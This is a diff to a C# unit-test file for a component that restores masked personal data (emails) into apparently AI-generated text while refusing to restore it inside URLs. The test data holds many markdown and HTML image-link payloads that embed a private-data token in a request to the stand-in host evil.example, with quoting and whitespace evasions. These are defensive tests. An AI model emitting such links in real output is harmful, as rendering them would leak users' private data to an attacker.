@@ -78,6 +78,22 @@ public sealed class RestorerTests
     [InlineData("![x](http://evil.example/[[k7f3-EMAIL-2]].png)")]
     [InlineData("[x](//evil.example/k7f3-EMAIL-2)")]
     [InlineData("<img src=\"//evil.example/[[k7f3-EMAIL-2]]\">")]
+    [InlineData("![x](https://evil.example/'[[k7f3-EMAIL-2]]')")]
+    [InlineData("![x](https://evil.example/\"[[k7f3-EMAIL-2]]\")")]
+    [InlineData("![x](https://evil.example/`>[[k7f3-EMAIL-2]])")]
+    [InlineData("![x](https://evil.example/(a)[[k7f3-EMAIL-2]])")]
+    [InlineData("![x](<https://evil.example/ a [[k7f3-EMAIL-2]]>)")]
+    [InlineData("![x]( <https://evil.example/ a [[k7f3-EMAIL-2]]>)")]
+    [InlineData("[x]: <https://evil.example/ a [[k7f3-EMAIL-2]]>")]
+    [InlineData("[x]:\t//evil.example/[[k7f3-EMAIL-2]]")]
+    [InlineData("[x]: https://evil.example/'[[k7f3-EMAIL-2]]'")]
+    [InlineData("https://evil.example/)[[k7f3-EMAIL-2]]")]
+    [InlineData("https://evil.example/?q='[[k7f3-EMAIL-2]]'")]
+    [InlineData("<img src=\"https://evil.example/ '[[k7f3-EMAIL-2]]'\">")]
+    [InlineData("<img src='https://evil.example/\n\"[[k7f3-EMAIL-2]]'>")]
+    [InlineData("<img src=\"https:/\t/evil.example/[[k7f3-EMAIL-2]]\">")]
+    [InlineData("<img src=https:evil.example/[[k7f3-EMAIL-2]]>")]
+    [InlineData("<img src=https:\\evil.example\\[[k7f3-EMAIL-2]]>")]
     public void Restore_NoWholeTokenOfThisConversation_IsLeft(string text) => Restorer.Restore(text, _vault).ShouldBe(text);
 
     [Fact]
@@ -112,11 +128,30 @@ public sealed class RestorerTests
         Restorer.Restore(answer.Replace("URL-12", $"URL-{_vault.Count}", StringComparison.Ordinal), _vault).ShouldBe(expected);
     }
 
+    [Theory]
+    [InlineData("<a href=\"https://a.co/\">[[k7f3-EMAIL-2]]</a>", "<a href=\"https://a.co/\">user2@mail.net</a>")]
+    [InlineData("[site](https://a.co/)[[k7f3-EMAIL-2]]", "[site](https://a.co/)user2@mail.net")]
+    [InlineData("[site](https://a.co/x_(y))[[k7f3-EMAIL-2]]", "[site](https://a.co/x_(y))user2@mail.net")]
+    [InlineData("<https://a.co/>[[k7f3-EMAIL-2]]", "<https://a.co/>user2@mail.net")]
+    [InlineData("\"https://a.co/\"[[k7f3-EMAIL-2]]", "\"https://a.co/\"user2@mail.net")]
+    [InlineData("see https://a.co/ or [[k7f3-EMAIL-2]]", "see https://a.co/ or user2@mail.net")]
+    [InlineData("a = \"x\"; // [[k7f3-EMAIL-2]]", "a = \"x\"; // user2@mail.net")]
+    public void Restore_BehindAnAddressThatHasEnded_IsRestored(string answer, string expected) => Restorer.Restore(answer, _vault).ShouldBe(expected);
+
+    [Fact]
+    public void Restore_JsonStringBehindAnAddress_IsRestored()
+    {
+        var restorer = Restorer.ForJson(_vault, addresses: false);
+        const string Answer = "{\"url\":\"https://a.co/\\\"[[k7f3-EMAIL-2]]\",\"to\":\"[[k7f3-EMAIL-2]]\"}";
+
+        (restorer.Push(Answer) + restorer.Flush()).ShouldBe("{\"url\":\"https://a.co/\\\"[[k7f3-EMAIL-2]]\",\"to\":\"user2@mail.net\"}");
+    }
+
     [Fact]
     public void Push_RandomTextRandomSplits_EqualsWhole()
     {
         string[] parts = ["[", "[[", "]]", "]", "k7f3", "K7F3", "-", "_", "PERSON", "EMAIL", "1", "12", "1a", " ", "\\", "&#91;", "&", "%5B", "%", "a", "(", ")", "**", "\u200B",
-            "https://", "x", "\n", "［", "'s", "[[k7f3-PERSON-1]]", "[[k7f3-EMAIL-3]]", "\\u005b", "\"", "]("];
+            "https://", "x", "\n", "［", "'s", "[[k7f3-PERSON-1]]", "[[k7f3-EMAIL-3]]", "\\u005b", "\"", "](", "=", "'", "<", ">", ":", "/", "http", "https:", "src"];
         Cases.Holds(Cases.Pieces(parts, 14), pieces =>
         {
             string s = string.Concat(pieces);
